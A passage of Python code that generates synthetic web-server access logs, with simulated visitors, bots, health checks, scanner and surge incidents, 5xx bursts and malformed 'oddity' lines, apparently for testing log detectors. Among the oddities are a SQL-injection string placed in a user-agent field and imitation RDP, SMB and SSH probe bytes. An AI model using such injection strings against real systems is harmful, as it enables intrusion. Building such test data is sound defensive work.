    def _cidr_ips(self, cidrs: str, n: int) -> list[str]:
        """``n`` addresses spread over a few CIDR blocks (the published ranges of well-known bots)."""
        blocks = cidrs.split()
        out = []
        for i in range(n):
            net, plen = blocks[i % len(blocks)].split("/")
            v6 = ":" in net
            bits = (128 if v6 else 32) - int(plen)
            off = int(self.rng.integers(1, 1 << min(bits, 62))) if bits > 1 else 0
            if v6:
                out.append(_v6(_parse_v6(net) + off))
                continue
            a, b, c, d = (int(x) for x in net.split("."))
            addr = ((a << 24) | (b << 16) | (c << 8) | d) + off
            if bits >= 8 and addr & 255 in (0, 255):
                addr ^= 1
            out.append(_v4(addr))
        return out

    def _visitors(self, n: int, country: str | None = None, office: bool = True) -> dict[str, np.ndarray]:
        """A population of visitors: IP index, UA index, user index, offset group, activity weight."""
        rng = self.rng
        if country is None:
            cidx = rng.choice(len(self.countries), n, p=self.country_w / self.country_w.sum())
        else:
            cidx = np.full(n, self.countries.index(country))
        codes = [self.countries[i] for i in cidx.tolist()]
        v6 = rng.random(n) < IPV6_SHARE
        texts = self._draw_ips(codes, v6)
        offset = self.country_off[cidx].astype(float)
        user = np.zeros(n, dtype=np.int8)
        activity = rng.lognormal(0.0, 1.0, n)
        if office:  # the staff: a few heavy users on the office network, logged in
            private = rng.permutation(n)[: max(OFFICE_MIN_VISITORS, round(n * PRIVATE_VISITOR_SHARE))]
            for k, i in enumerate(private.tolist()):
                texts[i] = f"192.168.{1 + k % 3}.{20 + (k * 37) % 200}"
                offset[i] = OFFICE_OFFSET
                user[i] = 1 + k % (len(USERS) - 1)
            activity[private] = OFFICE_ACTIVITY * activity.mean()
        ip = self._add_ips(texts)
        nat = np.flatnonzero(rng.random(n) < NAT_SHARE)
        if len(nat):
            ip[nat] = ip[rng.integers(0, n, len(nat))]
        return {
            "ip": ip,
            "ua": self.human_ua[rng.choice(len(self.human_ua), n, p=self.human_ua_p)].astype(np.int16),
            "user": user,
            "offset": offset,
            "activity": activity,
        }

    # -- traffic ---------------------------------------------------------------------------------------
    def _sessions(
        self, vis: dict[str, np.ndarray], sv: np.ndarray, starts: np.ndarray, land: np.ndarray, land_ref: np.ndarray
    ) -> dict[str, np.ndarray]:
        """Expand sessions (visitor, start, landing page or -1, landing referrer or -1) into request rows."""
        rng, site = self.rng, self.site
        s = len(sv)
        npages = rng.geometric(PAGES_PER_SESSION_P, s)
        p_sess = np.repeat(np.arange(s), npages)
        first = np.repeat(np.cumsum(npages) - npages, npages)
        idx = np.arange(len(p_sess)) - first
        gaps = np.where(idx == 0, 0.0, rng.lognormal(PAGE_GAP_LOG_MEAN, 1.0, len(p_sess)))
        cs = np.cumsum(gaps)
        p_t = starts[p_sess] + cs - cs[first]
        choice = rng.choice(len(site.page_ids), len(p_sess), p=site.page_p)
        p_path = site.page_ids[choice]
        p_img = site.page_image[choice]
        landing = idx == 0
        forced = landing & (land[p_sess] >= 0)
        p_path[forced] = land[p_sess][forced]
        p_img[forced] = -1
        broken = ~landing & (rng.random(len(p_sess)) < BROKEN_LINK_SHARE)
        p_path[broken] = site.missing_ids[rng.integers(0, len(site.missing_ids), int(broken.sum()))]
        p_img[broken] = -1
        ext = rng.choice(len(self.ext_refs), len(p_sess), p=self.ext_p)
        ext = np.where(land_ref[p_sess] >= 0, land_ref[p_sess], ext)
        tracked = np.flatnonzero(landing & (ext > 0) & (rng.random(len(p_sess)) < TRACKING_PARAM_SHARE))
        for i in tracked.tolist():
            p_path[i] = self._tracked_path(int(p_path[i]))
        prev = np.roll(p_path, 1)
        p_ref = np.where(landing, ext, self.internal_base + prev)
        p_ok = site.status[self._catalog(p_path)] == 200
        # static assets: a full load on most landings, a few revalidations elsewhere
        full = landing & (rng.random(len(p_sess)) < FULL_LOAD_SHARE) & p_ok
        n_full = len(site.asset_ids) + (p_img >= 0)
        n_part = rng.poisson(0.5, len(p_sess)) * p_ok
        n_assets = np.where(full, n_full, n_part + ((p_img >= 0) & (rng.random(len(p_sess)) < 0.5)))
        a_page = np.repeat(np.arange(len(p_sess)), n_assets)
        a_idx = np.arange(len(a_page)) - np.repeat(np.cumsum(n_assets) - n_assets, n_assets)
        a_full = full[a_page]
        a_img = p_img[a_page]
        n_site = len(site.asset_ids)
        a_path = np.where(
            a_full,
            site.asset_ids[np.minimum(a_idx, n_site - 1)],
            site.partial_ids[rng.integers(0, len(site.partial_ids), len(a_page))],
        )
        is_img = (a_full & (a_idx == n_site)) | (~a_full & (a_img >= 0) & (a_idx == n_assets[a_page] - 1))
        a_path = np.where(is_img, a_img, a_path)
        a_status = np.where(a_full | is_img | (rng.random(len(a_page)) < 0.15), 0, 304).astype(np.int16)
        a_t = p_t[a_page] + 0.05 + rng.random(len(a_page)) * 1.5
        # API calls made by the pages
        n_api = rng.poisson(API_PER_PAGE, len(p_sess)) * p_ok
        q_page = np.repeat(np.arange(len(p_sess)), n_api)
        entry = rng.choice(len(site.api_p), len(q_page), p=site.api_p)
        q_t = p_t[q_page] + 0.5 + rng.random(len(q_page)) * 20
        rows_v = np.concatenate([sv[p_sess], sv[p_sess][a_page], sv[p_sess][q_page]])
        n_p, n_a, n_q = len(p_sess), len(a_page), len(q_page)
        method = np.concatenate([np.zeros(n_p + n_a, dtype=np.int8), site.api_method[entry]])
        status = np.concatenate([np.zeros(n_p, dtype=np.int16), a_status, site.api_status[entry]])
        size = np.concatenate([np.full(n_p + n_a, -2, dtype=np.int64), site.api_size[entry]])
        proto = rng.choice(len(HUMAN_PROTOCOL_P), n_p + n_a + n_q, p=HUMAN_PROTOCOL_P).astype(np.int8)
        return {
            "t": np.concatenate([p_t, a_t, q_t]),
            "ip": vis["ip"][rows_v],
            "ua": vis["ua"][rows_v],
            "user": vis["user"][rows_v],
            "method": method,
            "path": np.concatenate([p_path, a_path, site.api_path[entry]]).astype(np.int32),
            "proto": proto,
            "status": status,
            "size": size,
            "ref": np.concatenate([p_ref, self.internal_base + p_path[a_page], self.internal_base + p_path[q_page]]),
            "session": np.concatenate([p_sess, p_sess[a_page], p_sess[q_page]]),
        }

    def _tracked_path(self, pid: int) -> int:
        """A new path: the landing page with campaign or click-id parameters."""
        base = self.paths[pid]
        sep = "&" if "?" in base else "?"
        if self.rng.random() < 0.4:
            path = base + UTM_PARAMS[int(self.rng.integers(len(UTM_PARAMS)))].replace("?", sep, 1)
        else:
            name = TRACKING_IDS[int(self.rng.integers(len(TRACKING_IDS)))]
            token = "".join(self.rng.choice(TOKEN_ALPHABET, 28 + int(self.rng.integers(40))))
            path = f"{base}{sep}{name}={token}"
        self.paths.append(path)
        self.derived.append(pid if pid < len(self.site.paths) else self.derived[pid - len(self.site.paths)])
        return len(self.paths) - 1

    def _catalog(self, path: np.ndarray) -> np.ndarray:
        """The catalog entry of each path index (paths with tracking parameters map to their page)."""
        n = len(self.site.paths)
        if not self.derived:
            return path
        derived = np.array(self.derived)
        return np.where(path < n, path, derived[np.maximum(path - n, 0)])

    def _wrap(self, rows: dict[str, np.ndarray], session_start: np.ndarray, w: _Window) -> None:
        """Fold the rows of sessions that started inside a window back into it (exact incident edges)."""
        inside = (session_start >= w.t0) & (session_start < w.t1)
        mask = inside[rows["session"]] & (rows["t"] >= w.t1)
        rows["t"][mask] = w.t0 + (rows["t"][mask] - w.t0) % (w.t1 - w.t0)

    def human_rows(self, need: int) -> dict[str, np.ndarray]:
        """Exactly ``need`` human rows: visitors' sessions over the diurnal curves, spike and drop applied."""
        rng = self.rng
        nv = int(VISITOR_SCALE * need**VISITOR_EXPONENT) + 20
        vis = self._visitors(nv)
        act = vis["activity"] / vis["activity"].sum()
        rates = {o: self._human_intensity(o) for o in self.offsets.tolist()}
        spike, drop = self._window("spike"), self._window("drop")
        spike_path = int(self.site.blog_ids[int(rng.integers(0, 20))]) if spike else -1
        if spike:
            spike.subject = self.paths[spike_path]
            spike.details["path"] = self.paths[spike_path]
        spike_refs = np.array([self.ext_refs.index(r) for r, _ in SPIKE_REFERRERS])
        spike_ref_p = np.array([p for _, p in SPIKE_REFERRERS])
        parts, have = [], 0
        while have < need or not parts:
            s = int((need - have) / REQUESTS_PER_SESSION * 1.1) + 8
            sv = rng.choice(nv, s, p=act)
            starts = np.empty(s)
            offs = vis["offset"][sv]
            for o, rate in rates.items():
                sel = np.flatnonzero(offs == o)
                if len(sel):
                    starts[sel] = self._sample_times(rate, len(sel))
            land = np.full(s, -1)
            land_ref = np.full(s, -1)
            if spike:
                extra = (starts >= spike.t0) & (starts < spike.t1)
                extra &= rng.random(s) < 1 - 1 / spike.details["factor"]
                k = int(extra.sum())
                if k:  # the spike brings new visitors, who land on the viral post from a link site
                    fresh = self._visitors(k, office=False)
                    vis = {key: np.concatenate([vis[key], fresh[key]]) for key in vis}
                    sv[extra] = np.arange(len(vis["ip"]) - k, len(vis["ip"]))
                    land[extra] = np.where(rng.random(k) < 0.8, spike_path, -1)
                    land_ref[extra] = spike_refs[rng.choice(len(spike_refs), k, p=spike_ref_p)]
            rows = self._sessions(vis, sv, starts, land, land_ref)
            if spike:
                self._wrap(rows, starts, spike)
            keep = rows["t"] < self.span
            if drop:
                inside = (rows["t"] >= drop.t0) & (rows["t"] < drop.t1)
                keep &= ~inside | (rng.random(len(keep)) < drop.details["keep"])
            rows = {k: v[keep] for k, v in rows.items()}
            parts.append(rows)
            have += int(keep.sum())
        rows = {k: np.concatenate([p[k] for p in parts]) for k in parts[0]}
        excess = have - need
        if excess:
            cut = np.ones(have, dtype=bool)
            cut[rng.choice(have, excess, replace=False)] = False
            rows = {k: v[cut] for k, v in rows.items()}
        rows.pop("session")
        rows["src"] = np.full(need, SRC_HUMAN, dtype=np.int8)
        return rows

    def bot_rows(self, need: int) -> dict[str, np.ndarray]:
        """Exactly ``need`` rows from crawlers, link previews, feed readers, monitors, tools and probes."""
        rng, site = self.rng, self.site
        bot_agents = [i for i, a in enumerate(self.agents) if a.is_bot and a.weight > 0]
        share = np.array([self.agents[i].weight for i in bot_agents])
        pools = []
        for i in bot_agents:
            a = self.agents[i]
            cidrs = next(c for _, ua, _, _, c in BOTS if ua == a.ua)
            if cidrs:
                texts = self._cidr_ips(cidrs, BOT_IPS_PER_AGENT)
            else:
                codes = [HOSTING_COUNTRIES[int(k)] for k in rng.integers(0, len(HOSTING_COUNTRIES), BOT_IPS_PER_AGENT)]
                texts = self._draw_ips(codes, rng.random(BOT_IPS_PER_AGENT) < 0.1)
            pools.append(self._add_ips(texts))
        pool = np.stack(pools)
        which = rng.choice(len(bot_agents), need, p=share / share.sum())
        ua = np.array(bot_agents, dtype=np.int16)[which]
        ip = pool[which, rng.integers(0, BOT_IPS_PER_AGENT, need)]
        kinds = np.array([self.agents[i].kind for i in bot_agents])[which]
        path = np.empty(need, dtype=np.int32)
        method = np.zeros(need, dtype=np.int8)
        status = np.zeros(need, dtype=np.int16)
        for kind in ("crawler", "preview", "feed", "monitor", "tool", "probe"):
            sel = np.flatnonzero(kinds == kind)
            n = len(sel)
            if not n:
                continue
            if kind == "crawler":
                path[sel] = site.crawl_ids[rng.choice(len(site.crawl_ids), n, p=site.crawl_p)]
                method[sel[rng.random(n) < 0.005]] = METHODS.index("HEAD")
            elif kind == "preview":
                path[sel] = site.preview_ids[rng.integers(0, len(site.preview_ids), n)]
            elif kind == "feed":
                path[sel] = np.where(rng.random(n) < 0.9, site.ids["/feed.xml"], site.ids["/feed"])
                status[sel] = np.where(rng.random(n) < FEED_NOT_MODIFIED_SHARE, 304, 0)
            elif kind == "monitor":
                path[sel] = np.where(rng.random(n) < 0.8, site.ids["/"], site.ids["/health"])
                method[sel] = np.where(rng.random(n) < 0.5, METHODS.index("HEAD"), 0)
            elif kind == "tool":
                choices = np.array(
                    [
                        site.ids[p]
                        for p in (
                            "/",
                            "/api/v1/products?page=1",
                            "/robots.txt",
                            "/sitemap.xml",
                            "/feed.xml",
                            "/api/v1/session",
                        )
                    ]
                )
                path[sel] = np.where(
                    rng.random(n) < 0.7,
                    choices[rng.integers(0, len(choices), n)],
                    site.crawl_ids[rng.choice(len(site.crawl_ids), n, p=site.crawl_p)],
                )
            else:
                choices = np.concatenate([[site.ids["/"]] * 6, [site.ids["/favicon.ico"]], site.scanner_ids[:12]])
                path[sel] = choices[rng.integers(0, len(choices), n)]
        throttled = np.isin(ua, [i for i in bot_agents if self.agents[i].browser in THROTTLED_BOTS])
        status[throttled & (rng.random(need) < THROTTLE_SHARE)] = 429
        proto = np.where(np.isin(kinds, ("monitor",)) & (rng.random(need) < 0.5), 3, 0).astype(np.int8)
        return {
            "t": self._sample_times(self._bot_intensity(), need),
            "ip": ip,
            "ua": ua,
            "user": np.zeros(need, dtype=np.int8),
            "method": method,
            "path": path,
            "proto": proto,
            "status": status,
            "size": np.full(need, -2, dtype=np.int64),
            "ref": np.zeros(need, dtype=np.int64),
            "src": np.full(need, SRC_BOT, dtype=np.int8),
        }

    def health_rows(self, need: int) -> dict[str, np.ndarray]:
        """Periodic load-balancer health checks from private addresses."""
        rng = self.rng
        ips = self._add_ips(list(HEALTH_IPS))
        interval = self.span / max(need, 1)
        t = rng.random() * interval + np.arange(need) * interval + rng.normal(0, 0.2, need)
        node = np.arange(need) % len(HEALTH_IPS)
        ua = np.array([self.ua_index[u] for u in HEALTH_AGENTS], dtype=np.int16)
        paths = np.array([self.site.ids["/health"], self.site.ids["/healthz"]])
        return {
            "t": np.clip(t, 0, self.span - 1e-3),
            "ip": ips[node],
            "ua": ua[node % 2],
            "user": np.zeros(need, dtype=np.int8),
            "method": np.zeros(need, dtype=np.int8),
            "path": paths[node % 2].astype(np.int32),
            "proto": np.zeros(need, dtype=np.int8),
            "status": np.full(need, 200, dtype=np.int16),
            "size": np.full(need, 2, dtype=np.int64),
            "ref": np.zeros(need, dtype=np.int64),
            "src": np.full(need, SRC_HEALTH, dtype=np.int8),
        }

    def scanner_rows(self, w: _Window, distinct: int) -> dict[str, np.ndarray]:
        """One IP walking ``distinct`` paths (mostly 404) inside the window, a few twice."""
        rng, site = self.rng, self.site
        cc = SCANNER_COUNTRIES[int(rng.integers(len(SCANNER_COUNTRIES)))]
        ip_text = self._fresh_ip(cc, set(self.ips))
        self.reserved.add(ip_text)
        ip = self._add_ips([ip_text])[0]
        ua_text = SCANNER_AGENTS[int(rng.integers(len(SCANNER_AGENTS)))]
        ids = site.scanner_ids[rng.permutation(len(site.scanner_ids))[:distinct]]
        repeats = ids[rng.integers(0, len(ids), round(len(ids) * SCANNER_REPEAT_SHARE))]
        path = np.concatenate([ids, repeats]).astype(np.int32)
        n = len(path)
        method = np.where(rng.random(n) < 0.06, METHODS.index("POST"), 0).astype(np.int8)
        method[rng.random(n) < 0.03] = METHODS.index("HEAD")
        w.subject = ip_text
        w.details.update(ip=ip_text, country=cc, user_agent=ua_text, distinct_paths=len(ids))
        return {
            "t": np.sort(w.t0 + rng.random(n) * (w.t1 - w.t0)),
            "ip": np.full(n, ip, dtype=np.int32),
            "ua": np.full(n, self.ua_index[ua_text], dtype=np.int16),
            "user": np.zeros(n, dtype=np.int8),
            "method": method,
            "path": path,
            "proto": np.zeros(n, dtype=np.int8),
            "status": np.zeros(n, dtype=np.int16),
            "size": np.full(n, -2, dtype=np.int64),
            "ref": np.zeros(n, dtype=np.int64),
            "src": np.full(n, SRC_SCANNER, dtype=np.int8),
        }

    def surge_rows(self, w: _Window, need: int) -> dict[str, np.ndarray]:
        """Exactly ``need`` rows of sessions from many new visitors of one normally rare country."""
        rng = self.rng
        rare = [c for c, wt, _ in COUNTRIES if wt <= SURGE_MAX_WEIGHT and c in self.nets and len(self.nets[c][0]) >= 8]
        cc = rare[int(rng.integers(len(rare)))]
        k = int(np.clip(need / 15, 3, 300))
        vis = self._visitors(k, country=cc, office=False)
        parts, have = [], 0
        while have < need:
            s = int((need - have) / REQUESTS_PER_SESSION * 1.1) + 4
            sv = rng.integers(0, k, s)
            starts = w.t0 + rng.random(s) * (w.t1 - w.t0)
            rows = self._sessions(vis, sv, starts, np.full(s, -1), np.full(s, -1))
            self._wrap(rows, starts, w)
            parts.append(rows)
            have += len(rows["t"])
        rows = {key: np.concatenate([p[key] for p in parts]) for key in parts[0]}
        keep = np.sort(rng.choice(have, need, replace=False))
        rows = {key: v[keep] for key, v in rows.items()}
        rows.pop("session")
        rows["src"] = np.full(need, SRC_SURGE, dtype=np.int8)
        w.subject = cc
        w.details.update(
            country=cc,
            visitors=len(np.unique(vis["ip"])),
            baseline_share_pct=next(wt for c, wt, _ in COUNTRIES if c == cc),
        )
        return rows

    # -- assembly --------------------------------------------------------------------------------------
    def build(self) -> Sample:
        """Plan every row, apply incidents and oddities, sort by time."""
        rng, n = self.rng, self.lines
        n_health = round(n * HEALTH_SHARE)
        cap = int(n * INCIDENT_MAX_SHARE)
        scan, surge = self._window("scanner"), self._window("country_surge")
        n_scan_distinct = min(int(rng.integers(*SCANNER_DISTINCT)), len(self.site.scanner_ids), cap) if scan else 0
        n_scan = n_scan_distinct + round(n_scan_distinct * SCANNER_REPEAT_SHARE)
        n_surge = 0
        if surge:
            share = float(self._human_intensity(0.0, spike=False)[self._in_minutes(surge)].sum())
            share /= float(self._human_intensity(0.0, spike=False).sum())
            n_surge = min(cap, max(1, round(share * n * rng.uniform(*SURGE_FACTOR))))
        base = max(n - n_health - n_scan - n_surge, 0)
        n_bot = round(base * BOT_SHARE)
        parts = [self.human_rows(base - n_bot), self.bot_rows(n_bot), self.health_rows(n_health)]
        if scan and n_scan:
            parts.append(self.scanner_rows(scan, n_scan_distinct))
        if surge and n_surge:
            parts.append(self.surge_rows(surge, n_surge))
        cols = {k: np.concatenate([p[k] for p in parts]) for k in parts[0]}
        order = np.argsort(cols["t"], kind="stable")
        cols = {k: v[order] for k, v in cols.items()}
        self._statuses(cols)
        burst = self._window("5xx_burst")
        if burst:
            self._burst(cols, burst)
        overrides, odd = self._oddities(cols)
        self._describe(cols)
        bot = np.array([a.is_bot for a in self.agents])[cols["ua"]]
        ends = self.start + timedelta(seconds=self.span)
        return Sample(
            seed=self.seed,
            lines=n,
            start=self.start.astimezone(UTC),
            end=ends.astimezone(UTC),
            tz=self.tz,
            incidents=[self._incident(w) for w in self.windows],
            oddities=odd,
            bot_lines=int(bot.sum()),
            columns=cols,
            ips=self.ips,
            paths=self.paths,
            referrers=[*self.ext_refs, *(SITE + p for p in self.paths)],
            overrides=overrides,
        )

    def _statuses(self, cols: dict[str, np.ndarray]) -> None:
        """Fill statuses and sizes from the catalog, with conditional GETs, HEADs and rare server errors."""
        rng, site = self.rng, self.site
        n = len(cols["t"])
        status, size, path = cols["status"], cols["size"], cols["path"]
        base = self._catalog(path)
        unset = status == 0
        status[unset] = site.status[base[unset]]
        ctype = site.ctype[base]
        html = (ctype == HTML) & (status == 200) & (cols["method"] == 0)
        status[html & (rng.random(n) < CONDITIONAL_HTML_SHARE)] = 304
        dyn = np.isin(ctype, DYNAMIC_TYPES) & (cols["src"] != SRC_HEALTH)
        u = rng.random(n)
        edge = 0.0
        for code, p in RARE_ERRORS:
            hit = dyn & (u >= edge) & (u < edge + p)
            status[hit] = code
            size[hit] = -2
            edge += p
        media = path == site.ids["/media/demo.mp4"]
        status[media & (status == 200) & (rng.random(n) < 0.6)] = 206
        todo = size == -2
        sigma = np.array(SIZE_SIGMA)[ctype]
        ok = todo & (status == 200)
        body = site.size[base]
        size[ok] = np.maximum(1, body[ok] * np.exp(sigma[ok] * rng.standard_normal(int(ok.sum())))).astype(np.int64)
        for code, nbytes in STATUS_SIZES.items():
            size[todo & (status == code)] = nbytes
        size[cols["method"] == METHODS.index("HEAD")] = -1
        size[(status == 304) | (status == 204)] = -1
        size[todo & (size == -2)] = 0

    def _burst(self, cols: dict[str, np.ndarray], w: _Window) -> None:
        """Turn a share of the requests inside the window into 5xx errors."""
        rng = self.rng
        inside = np.flatnonzero((cols["t"] >= w.t0) & (cols["t"] < w.t1) & (cols["src"] != SRC_HEALTH))
        hit = inside[rng.random(len(inside)) < w.details["error_rate"]]
        codes = np.array([c for c, _ in BURST_STATUSES])
        p = np.array([q for _, q in BURST_STATUSES])
        cols["status"][hit] = codes[rng.choice(len(codes), len(hit), p=p)]
        for code in codes.tolist():
            sel = hit[cols["status"][hit] == code]
            cols["size"][sel] = np.where(cols["method"][sel] == METHODS.index("HEAD"), -1, STATUS_SIZES[code])
        w.details["statuses"] = {str(c): int((cols["status"][hit] == c).sum()) for c in codes.tolist()}

    def _oddities(self, cols: dict[str, np.ndarray]) -> tuple[dict[int, str], dict[str, int]]:
        """Replace a few ordinary rows (outside incident windows) with the oddities of real logs."""
        rng = self.rng
        n = len(cols["t"])
        ok = np.isin(cols["src"], (SRC_HUMAN, SRC_BOT))
        for w in self.windows:
            ok &= (cols["t"] < w.t0) | (cols["t"] >= w.t1)
        candidates = np.flatnonzero(ok)
        counts = {}
        for kind, rate in ODDITY_RATES.items():
            k = round(rate * n)
            if n >= ODDITY_MIN_LINES:
                k = max(k, 1)
            counts[kind] = k
        total = min(sum(counts.values()), len(candidates))
        rows = np.sort(rng.choice(candidates, total, replace=False)) if total else np.zeros(0, dtype=np.int64)
        kinds = [k for k, c in counts.items() for _ in range(c)][:total]
        kinds = [kinds[i] for i in rng.permutation(len(kinds))]
        overrides = {}
        done = dict.fromkeys(ODDITY_RATES, 0)
        for row, kind in zip(rows.tolist(), kinds, strict=True):
            overrides[row] = self._odd_line(cols, row, kind)
            done[kind] += 1
        return overrides, done

    def _odd_line(self, cols: dict[str, np.ndarray], row: int, kind: str) -> str:
        """One oddity line, written exactly as Apache or nginx would log it (non-UTF-8 as surrogates)."""
        rng = self.rng
        ip = self.ips[int(cols["ip"][row])]
        ts = _timestamps(np.array([self.t0 + cols["t"][row]]), self.tz)[0]
        ua = self.agents[int(cols["ua"][row])].ua
        path = self.paths[int(cols["path"][row])]
        size = int(cols["size"][row])
        body = "-" if size < 0 else str(size)
        status = int(cols["status"][row])
        pick = int(rng.integers(0, 1 << 30))
        if kind in ("dash_request", "tls_garbage", "binary_probe"):
            ip = self._fresh_ip(SCANNER_COUNTRIES[pick % len(SCANNER_COUNTRIES)], self.reserved)
            cols["status"][row], cols["size"][row] = 400, 0
        if kind == "escaped_quote":
            if pick % 2:
                quoted = (
                    '\\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\\"',
                    'Mozilla/5.0\' or \\"1\\"=\\"1',
                    f'{ua} \\"Quoted\\"',
                )[pick % 3]
                return f'{ip} - - [{ts}] "GET {path} HTTP/1.1" {status} {body} "-" "{quoted}"'
            return f'{ip} - - [{ts}] "GET /search?q=\\"log+analytics\\" HTTP/1.1" 200 17893 "{SITE}/" "{ua}"'
        if kind == "space_in_url":
            bad = ("/docs/getting started.html", "/images/Summer Sale 2026.jpg", "/blog/how to read logs")[pick % 3]
            return f'{ip} - - [{ts}] "GET {bad} HTTP/1.1" 404 {STATUS_SIZES[404]} "-" "{ua}"'
        if kind == "dash_request":
            if pick % 3:
                return f'{ip} - - [{ts}] "-" 400 0 "-" "-"'
            return f'{ip} - - [{ts}] "-" 408 - "-" "-"'
        if kind == "no_protocol":
            return f'{ip} - - [{ts}] "GET /" {400 if pick % 2 else 200} {157 if pick % 2 else 24310} "-" "-"'
        if kind == "tls_garbage":
            hello = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03])
            hello += rng.integers(0, 256, 12 + pick % 30, dtype=np.uint8).tobytes()
            return f'{ip} - - [{ts}] "{_nginx_escape(hello)}" 400 157 "-" "-"'
        if kind == "binary_probe":
            probe = (
                b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
                b"SSH-2.0-Go",
                f"MGLNDD_{ip}_443".encode(),
                b"\x00\x00\x00\xa4\xffSMBr\x00\x00\x00\x00\x08\x01@",
            )[pick % 4]
            return f'{ip} - - [{ts}] "{_nginx_escape(probe)}" 400 157 "-" "-"'
        if kind == "raw_utf8":
            odd = ("/café", "/blog/über-uns", "/search?q=naïve+café", "/товары/", "/搜索?q=日志", "/blog/🚀-launch")
            return f'{ip} - - [{ts}] "GET {odd[pick % len(odd)]} HTTP/1.1" 404 {STATUS_SIZES[404]} "-" "{ua}"'
        if kind == "latin1_bytes":
            if pick % 2:
                return f'{ip} - - [{ts}] "GET /caf\udce9 HTTP/1.1" 404 {STATUS_SIZES[404]} "-" "{ua}"'
            phone = "Mozilla/5.0 (Linux; Android 9; T\udce9l\udce9phone) AppleWebKit/537.36 (KHTML, like Gecko)"
            return f'{ip} - - [{ts}] "GET {path} HTTP/1.1" {status} {body} "-" "{phone}"'
        # escaped_bytes: what nginx actually writes for non-ASCII bytes in the request line
        return f'{ip} - - [{ts}] "GET /caf\\xC3\\xA9 HTTP/1.1" 404 {STATUS_SIZES[404]} "-" "{ua}"'

    def _describe(self, cols: dict[str, np.ndarray]) -> None:
        """Measure each incident window in the final rows (what a detector will see)."""
        t, status = cols["t"], cols["status"]
        for w in self.windows:
            inside = (t >= w.t0) & (t < w.t1)
            w.details["requests"] = int(inside.sum())
            if w.kind == "5xx_burst":
                w.details["errors_5xx"] = int((inside & (status >= 500)).sum())
            elif w.kind == "scanner":
                mine = cols["src"] == SRC_SCANNER
                w.details["scanner_requests"] = int(mine.sum())
                w.details["scanner_404"] = int((mine & (status == 404)).sum())
            elif w.kind == "country_surge":
                w.details["surge_requests"] = int((cols["src"] == SRC_SURGE).sum())

    def _incident(self, w: _Window) -> dict:
        """The JSON form of an incident window."""
        return {
            "kind": w.kind,
            "start": _iso(datetime.fromtimestamp(self.t0 + w.t0, UTC)),
            "end": _iso(datetime.fromtimestamp(self.t0 + w.t1, UTC)),
            "subject": w.subject,
            "details": w.details,
        }


def _parse_v6(text: str) -> int:
    """Integer value of an IPv6 address written with at most one ``::``."""
    head, _, tail = text.partition("::")
    left = [int(g, 16) for g in head.split(":") if g]
    right = [int(g, 16) for g in tail.split(":") if g]
    groups = left + [0] * (8 - len(left) - len(right)) + right
    value = 0
    for g in groups:
        value = (value << 16) | g
    return value


def _nginx_escape(raw: bytes) -> str:
    """Escape bytes the way nginx's access log does: ``"``, ``\\`` and non-printables as ``\\xHH``."""
    return "".join(chr(b) if 0x20 <= b < 0x7F and b not in (0x22, 0x5C) else f"\\x{b:02X}" for b in raw)


def _iso(moment: datetime) -> str:
    """ISO 8601 in UTC with seconds."""
    return moment.astimezone(UTC).isoformat(timespec="seconds")


@lru_cache(maxsize=1)
def _clock() -> list[str]:
    """``HH:MM:SS`` for every second of a day."""
    return [f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)]


@lru_cache(maxsize=64)
def _day_label(day: int) -> str:
    """``DD/Mon/YYYY`` of a day number since the epoch."""
    d = datetime(1970, 1, 1) + timedelta(days=day)
    return f"{d.day:02d}/{MONTHS[d.month - 1]}/{d.year}"


def _offset_label(seconds: int) -> str:
    """``+HHMM`` of an offset in seconds."""
    sign = "-" if seconds < 0 else "+"
    minutes = abs(seconds) // 60
    return f"{sign}{minutes // 60:02d}{minutes % 60:02d}"


def _offsets(epoch: np.ndarray, tz: str) -> np.ndarray:
    """UTC offset in seconds at each epoch second, from zoneinfo per 15-minute bucket (DST-aware)."""
    if tz == "UTC":
        return np.zeros(len(epoch), dtype=np.int64)
    zone = ZoneInfo(tz)
    buckets = epoch // 900
    first = int(buckets.min()) if len(buckets) else 0
    span = int(buckets.max()) - first + 1 if len(buckets) else 0
    table = np.array(
        [int(datetime.fromtimestamp((first + b) * 900, zone).utcoffset().total_seconds()) for b in range(span)],
        dtype=np.int64,
    )
    return table[buckets - first]


def _timestamps(epoch: np.ndarray, tz: str) -> list[str]:
    """``DD/Mon/YYYY:HH:MM:SS +ZZZZ`` of float epoch seconds in a zone."""
    sec = np.floor(epoch).astype(np.int64)
    off = _offsets(sec, tz)
    local = sec + off
    clock = _clock()
    return [
        f"{_day_label(d)}:{clock[s]} {_offset_label(o)}"
        for d, s, o in zip((local // 86400).tolist(), (local % 86400).tolist(), off.tolist(), strict=True)
    ]


def _format_block(sample: Sample, i0: int, i1: int) -> bytes:
    """Format rows [i0, i1) into newline-terminated combined-format lines."""
    c = sample.columns
    t0 = sample.start.timestamp()
    sec = np.floor(t0 + c["t"][i0:i1]).astype(np.int64)
    off = _offsets(sec, sample.tz)
    local = sec + off
    days, day_idx = np.unique(local // 86400, return_inverse=True)
    offs, off_idx = np.unique(off, return_inverse=True)
    stamp = [f"{_day_label(int(d))}:" for d in days]
    zones = [f" {_offset_label(int(o))}" for o in offs]
    clock, ips, paths, refs = _clock(), sample.ips, sample.paths, sample.referrers
    uas = [a.ua for a in agents()]
    size = c["size"][i0:i1].astype(object)
    size[size < 0] = "-"
    lines = [
        f'{ips[ip]} - {USERS[u]} [{stamp[d]}{clock[s]}{zones[o]}] "{METHODS[m]} {paths[p]} {PROTOCOLS[q]}" '
        f'{st} {b} "{refs[r]}" "{uas[a]}"'
        for ip, u, d, s, o, m, p, q, st, b, r, a in zip(
            c["ip"][i0:i1].tolist(),
            c["user"][i0:i1].tolist(),
            day_idx.tolist(),
            (local % 86400).tolist(),
            off_idx.tolist(),
            c["method"][i0:i1].tolist(),
            c["path"][i0:i1].tolist(),
            c["proto"][i0:i1].tolist(),
            c["status"][i0:i1].tolist(),
            size.tolist(),
            c["ref"][i0:i1].tolist(),
            c["ua"][i0:i1].tolist(),
            strict=True,
        )
    ]
    for row, text in sample.overrides.items():
        if i0 <= row < i1:
            lines[row - i0] = text
    lines.append("")
    return "\n".join(lines).encode("utf-8", "surrogateescape")


def _resolve_start(start: datetime | None, tz: str) -> datetime:
    """The span start as an aware datetime: default midnight of DEFAULT_DATE in ``tz``; naive means ``tz``."""
    zone = ZoneInfo(tz)
    if start is None:
